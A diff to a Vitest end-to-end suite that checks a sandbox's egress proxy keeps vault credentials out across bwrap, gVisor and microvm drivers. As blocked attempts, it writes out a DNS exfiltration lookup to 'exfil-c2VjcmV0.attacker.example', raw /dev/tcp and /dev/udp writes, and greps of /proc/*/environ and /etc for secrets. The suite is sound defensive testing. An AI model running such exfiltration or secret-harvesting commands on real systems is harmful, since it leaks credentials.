@@ -7,8 +7,12 @@ import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import type Anthropic from '@anthropic-ai/sdk';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, type TestContext } from 'vitest';
 import { createCertificateAuthority } from '../src/egress/certificates.js';
+import { createBwrapDriver } from '../src/sandbox/bwrap/bwrap-driver.js';
+import type { SandboxDriver } from '../src/sandbox/driver.js';
+import { createGvisorDriver, type GvisorDriver } from '../src/sandbox/gvisor/gvisor-driver.js';
+import { createMicrovmDriver, type MicrovmDriver } from '../src/sandbox/microvm/microvm-driver.js';
 import { startTestBerth, type TestBerth, UNLIMITED_LIMITS } from './support/berth-instance.js';
 import { startOtlpReceiver } from './support/otlp-receiver.js';
 import { sendAndWaitIdle } from './support/session-stream.js';
@@ -53,11 +57,24 @@ function hostAddress(): string | undefined {
   return undefined;
 }
 
+/** The drivers this suite runs on, each with a factory to ask whether this host can run it. */
+const DRIVERS: Record<string, () => SandboxDriver> = {
+  bwrap: () => createBwrapDriver(),
+  gvisor: () => createGvisorDriver(),
+  // Not microvm: these tests go through the agent's bash tool, and the microvm guest is busybox
+  // (no bash, curl or python). It has its own suite below, commands sent through the driver.
+};
+
 /**
- * Issue 4 end to end: a vault credential reaches an allowed upstream only through the egress
+ * Issue 4 end to end, on every driver (issue 14 item 24: the stronger isolations keep the same
+ * single way out): a vault credential reaches an allowed upstream only through the egress
  * proxy, as a placeholder inside the sandbox; nothing else leaves the sandbox.
  */
-describe('egress: credentials never enter the sandbox', () => {
+describe.each(Object.keys(DRIVERS))('egress on %s: credentials never enter the sandbox', (driverName) => {
+  let unavailable: string | undefined;
+  const requireDriver = (context: TestContext) => {
+    if (unavailable !== undefined) context.skip(`${driverName} is unavailable here: ${unavailable}`);
+  };
   let berth: TestBerth;
   let directory: string;
   let secure: Upstream;
@@ -71,6 +88,13 @@ describe('egress: credentials never enter the sandbox', () => {
   let placeholder: string;
 
   beforeAll(async () => {
+    const probe = DRIVERS[driverName]!();
+    const availability = await probe.checkAvailability();
+    await (probe as Partial<GvisorDriver>).destroyAll?.();
+    if (!availability.ok) {
+      unavailable = availability.reason;
+      return;
+    }
     process.env.BERTH_TEST_SERVER_CANARY = SERVER_CANARY;
     directory = await mkdtemp(join(tmpdir(), 'berth-egress-e2e-'));
     const upstreamCa = await createCertificateAuthority('e2e upstream');
@@ -105,6 +129,9 @@ describe('egress: credentials never enter the sandbox', () => {
         ...UNLIMITED_LIMITS,
         OTEL_EXPORTER_OTLP_ENDPOINT: receiver.endpoint,
         OTEL_BSP_SCHEDULE_DELAY: '50',
+        // The only driver, so every environment's default.
+        BERTH_SANDBOX_DRIVERS: driverName,
+        BERTH_SANDBOX_WARM_POOL: '0',
         BERTH_EGRESS_HOSTS: 'api.test=127.0.0.1,other.test=127.0.0.1,control.test=127.0.0.1',
         BERTH_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${secure.port},127.0.0.1:${plain.port},127.0.0.1:${notes.port}`,
         BERTH_EGRESS_CA_FILE: join(directory, 'upstream-ca.pem'),
@@ -150,7 +177,7 @@ describe('egress: credentials never enter the sandbox', () => {
     });
     sessionId = session.id;
     placeholder = (await run(client, sessionId, 'printf %s "$API_TOKEN"')).trim();
-  }, 60_000);
+  }, 120_000);
 
   afterAll(async () => {
     delete process.env.BERTH_TEST_SERVER_CANARY;
@@ -162,23 +189,28 @@ describe('egress: credentials never enter the sandbox', () => {
     await rm(directory, { recursive: true, force: true });
   });
 
-  it('shows the sandbox a placeholder, and no canary anywhere inside', async () => {
+  it('shows the sandbox a placeholder, and no canary anywhere inside', async (context) => {
+    requireDriver(context);
     expect(placeholder).toMatch(/^berth_placeholder_[0-9a-f]+$/);
+    // The control is found where it was put, so the search itself works on this driver.
+    const control = `control-${process.pid}`;
     const search = await run(
       berth.client,
       sessionId,
       [
-        `for needle in ${SECRET} ${SERVER_CANARY}; do`,
+        `echo ${control}-found > /tmp/control.txt;`,
+        `for needle in ${SECRET} ${SERVER_CANARY} ${control}-found; do`,
         '  env | grep -c "$needle";',
         '  cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "$needle";',
         '  grep -rl "$needle" /workspace /tmp /home /run /etc 2>/dev/null | wc -l;',
         'done',
       ].join(' '),
     );
-    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0']);
+    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0', '0', '0', '1']);
   });
 
-  it('sends the real secret to the allowed host only, and the sandbox sees the placeholder back', async () => {
+  it('sends the real secret to the allowed host only, and the sandbox sees the placeholder back', async (context) => {
+    requireDriver(context);
     const output = await run(
       berth.client,
       sessionId,
@@ -209,7 +241,8 @@ describe('egress: credentials never enter the sandbox', () => {
     expect(JSON.stringify(produced)).not.toContain(SECRET);
   });
 
-  it('puts the secret only in credential headers, and scans what another host reads back', async () => {
+  it('puts the secret only in credential headers, and scans what another host reads back', async (context) => {
+    requireDriver(context);
     // Issue 14: a header the credential host stores (X-Note), read back from another allowed
     // host; and a secret legitimately sent (Authorization) that the host stores and serves again.
     const output = await run(
@@ -226,7 +259,8 @@ describe('egress: credentials never enter the sandbox', () => {
     expect(output).not.toContain(BEARER_SECRET);
   });
 
-  it('refuses an answer in a transfer-coding it cannot scan (gzip -dc finds no secret)', async () => {
+  it('refuses an answer in a transfer-coding it cannot scan (gzip -dc finds no secret)', async (context) => {
+    requireDriver(context);
     const output = await run(
       berth.client,
       sessionId,
@@ -243,7 +277,8 @@ describe('egress: credentials never enter the sandbox', () => {
     await expect.poll(async () => (await events()).at(-1)?.status).toBe(502);
   });
 
-  it('counts the bytes that went through egress in session.usage', async () => {
+  it('counts the bytes that went through egress in session.usage', async (context) => {
+    requireDriver(context);
     const log = async () => (await berth.store.events.read(berth.keyOf(sessionId))).map((stored) => stored);
     // The audits of the requests above land as each request ends: wait for them, then end a turn.
     await expect
@@ -264,7 +299,8 @@ describe('egress: credentials never enter the sandbox', () => {
     expect((usage!.event.berth as { egress_bytes: number }).egress_bytes).toBe(audited);
   });
 
-  it('lets nothing else out: other hosts, addresses, raw sockets, DNS, the control plane', async () => {
+  it('lets nothing else out: other hosts, addresses, raw sockets, DNS, the control plane', async (context) => {
+    requireDriver(context);
     const before = secure.seen.length + plain.seen.length;
     const address = hostAddress();
     const berthPort = new URL(berth.url).port;
@@ -285,7 +321,8 @@ describe('egress: credentials never enter the sandbox', () => {
       `echo hi > /dev/tcp/127.0.0.1/${berthPort}`,
       'echo hi > /dev/udp/8.8.8.8/53',
       'getent hosts exfil-c2VjcmV0.attacker.example || echo no-dns',
-      'ls /run/berth',
+      // (A glob, not `ls PATH`: gVisor's statx quirk, docs/drivers/gvisor.md.)
+      'cd /run/berth && echo *',
     ];
     // One line per attempt, whatever it printed on stdout and stderr.
     const output = await run(
@@ -298,9 +335,9 @@ describe('egress: credentials never enter the sandbox', () => {
     for (const [index, attempt] of attempts.entries()) {
       const line = lines[index] ?? '';
       if (attempt.startsWith('getent')) expect(line, attempt).toContain('no-dns');
-      else if (attempt.startsWith('ls'))
+      else if (attempt.startsWith('cd'))
         expect(line.trim().split(/\s+/).sort()).toEqual(['ca-bundle.pem', 'egress-ca.pem', 'egress.sock']);
-      else if (attempt.startsWith('echo hi')) expect(line, attempt).toMatch(/refused|unreachable/i);
+      else if (attempt.startsWith('echo hi')) expect(line, attempt).toMatch(/refused|unreachable|no route/i);
       else expect(line, attempt).toMatch(refused);
     }
     expect(secure.seen.length + plain.seen.length).toBe(before);
@@ -311,7 +348,8 @@ describe('egress: credentials never enter the sandbox', () => {
     await expect.poll(denied).toBeGreaterThanOrEqual(5);
   }, 60_000);
 
-  it('traces every request of the sandbox under its tool call and counts the denials', async () => {
+  it('traces every request of the sandbox under its tool call and counts the denials', async (context) => {
+    requireDriver(context);
     // After the tests above: allowed requests (intercepted and plain) and refused ones.
     const spans = () => receiver.spans.filter((span) => span.name.startsWith('egress '));
     await receiver.waitForSpans(
@@ -370,9 +408,142 @@ describe('egress: credentials never enter the sandbox', () => {
     expect(metrics).not.toContain('api.test');
   });
 
-  it('keeps the vault file and the server environment out of reach', () => {
+  it('swaps the placeholder for the secret in plain HTTP to the allowed host (wget this time)', async (context) => {
+    requireDriver(context);
+    const output = await run(
+      berth.client,
+      sessionId,
+      `wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://api.test:${plain.port}/`,
+    );
+    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
+    expect(output).toContain(`upstream saw: Bearer ${placeholder}`);
+    expect(output).not.toContain(SECRET);
+  });
+
+  it('keeps the vault file and the server environment out of reach', (context) => {
+    requireDriver(context);
     // The server's own environment had the canary the whole time (checked from inside above).
     expect(process.env.BERTH_TEST_SERVER_CANARY).toBe(SERVER_CANARY);
     expect(readFileSync(join(berth.dataDir, 'vault.key'), 'utf8')).not.toContain(SECRET);
   });
+});
+
+/**
+ * The same way out on the microvm driver, whose busybox guest has no bash for the agent's bash
+ * tool: a real server and session (vault, networking, egress proxy started by the sandbox
+ * manager), with commands run through the session's sandbox driver and busybox `wget`.
+ */
+describe('egress on microvm: credentials never enter the sandbox', () => {
+  let unavailable: string | undefined;
+  let berth: TestBerth;
+  let plain: Upstream;
+  let sessionId: string;
+  let shell: (command: string) => Promise<string>;
+
+  beforeAll(async () => {
+    const probe = createMicrovmDriver();
+    const availability = await probe.checkAvailability();
+    await (probe as MicrovmDriver).destroyAll();
+    if (!availability.ok) {
+      unavailable = availability.reason;
+      return;
+    }
+    process.env.BERTH_TEST_SERVER_CANARY = SERVER_CANARY;
+    const plainSeen: Upstream['seen'] = [];
+    plain = await listen(createHttpServer(echo(plainSeen)), plainSeen);
+    berth = await startTestBerth({
+      environment: {
+        ...UNLIMITED_LIMITS,
+        BERTH_SANDBOX_DRIVERS: 'microvm',
+        BERTH_EGRESS_HOSTS: 'api.test=127.0.0.1,other.test=127.0.0.1',
+        BERTH_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${plain.port}`,
+      },
+    });
+    const client = berth.client;
+    const vault = await client.beta.vaults.create({ display_name: 'e2e' });
+    await client.beta.vaults.credentials.create(vault.id, {
+      display_name: 'api token',
+      auth: {
+        type: 'environment_variable',
+        secret_name: 'API_TOKEN',
+        secret_value: SECRET,
+        networking: { type: 'limited', allowed_hosts: ['api.test'] },
+      },
+    });
+    const agent = await client.beta.agents.create({ name: 'egress', model: 'scripted/echo' });
+    const environment = await client.beta.environments.create({
+      name: 'egress',
+      config: { type: 'cloud', networking: { type: 'limited', allowed_hosts: ['api.test', 'other.test'] } },
+    });
+    const created = await client.beta.sessions.create({
+      agent: agent.id,
+      environment_id: environment.id,
+      vault_ids: [vault.id],
+    });
+    sessionId = created.id;
+    const session = (await berth.store.resources.getSession('tnt_default', created.id))!;
+    const handle = await berth.sandboxes.access(session).get();
+    const driver = berth.sandboxes.driverOf(berth.keyOf(created.id))!;
+    shell = async (command) => {
+      const result = await driver.exec(handle, ['sh', '-c', `exec 2>&1; ${command}`], { timeoutMs: 60_000 });
+      return result.stdout;
+    };
+  }, 180_000);
+
+  afterAll(async () => {
+    delete process.env.BERTH_TEST_SERVER_CANARY;
+    await berth?.dispose();
+    plain?.server.close();
+  });
+
+  it('sends the secret to the allowed host only, shows the sandbox the placeholder, and lets nothing else out', async (context) => {
+    if (unavailable !== undefined) context.skip(`microvm is unavailable here: ${unavailable}`);
+    const placeholder = (await shell('printf %s "$API_TOKEN"')).trim();
+    expect(placeholder).toMatch(/^berth_placeholder_[0-9a-f]+$/);
+    const allowed = await shell(
+      `wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://api.test:${plain.port}/`,
+    );
+    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${SECRET}`);
+    expect(allowed).toContain(`upstream saw: Bearer ${placeholder}`);
+    // A host the credential does not name gets the placeholder; a host outside allowed_hosts,
+    // an address and the host's loopback are refused by the proxy; nothing leaves without it.
+    await shell(`wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://other.test:${plain.port}/`);
+    expect(plain.seen.at(-1)?.authorization).toBe(`Bearer ${placeholder}`);
+    const before = plain.seen.length;
+    const refused = await shell(
+      [
+        'wget -q -O - http://example.com/ || echo refused-1',
+        `wget -q -O - http://127.0.0.1:${plain.port}/ || echo refused-2`,
+        `http_proxy= wget -q -T 3 -O - http://127.0.0.1:${plain.port}/ || echo refused-3`,
+        'nslookup example.com >/dev/null 2>&1 || echo refused-4',
+      ].join('; '),
+    );
+    for (const mark of ['refused-1', 'refused-2', 'refused-3', 'refused-4']) expect(refused).toContain(mark);
+    expect(plain.seen.length).toBe(before);
+    // No canary anywhere inside (the control is found, so the search works), and the trust
+    // files are where the environment says.
+    const search = await shell(
+      [
+        `echo control-${process.pid}-found > /tmp/control.txt;`,
+        `for needle in ${SECRET} ${SERVER_CANARY} control-${process.pid}-found; do`,
+        '  env | grep -c "$needle";',
+        '  cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "$needle";',
+        '  grep -rl "$needle" /workspace /tmp /home /run /etc 2>/dev/null | wc -l;',
+        'done;',
+        'test -s "$SSL_CERT_FILE" && grep -c "BEGIN CERTIFICATE" "$NODE_EXTRA_CA_CERTS"',
+      ].join(' '),
+    );
+    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0', '0', '0', '1', '1']);
+    // Audited like any session's requests: the swap by credential name, the refusals.
+    const audit = async () =>
+      (await berth.store.events.read(berth.keyOf(sessionId)))
+        .map((stored) => stored.event as unknown as Record<string, unknown>)
+        .filter((event) => event.type === 'berth.egress_request');
+    await expect
+      .poll(async () =>
+        (await audit()).some((event) => event.host === 'api.test' && event.decision === 'allowed'),
+      )
+      .toBe(true);
+    expect((await audit()).some((event) => event.decision === 'denied')).toBe(true);
+  }, 180_000);
 });
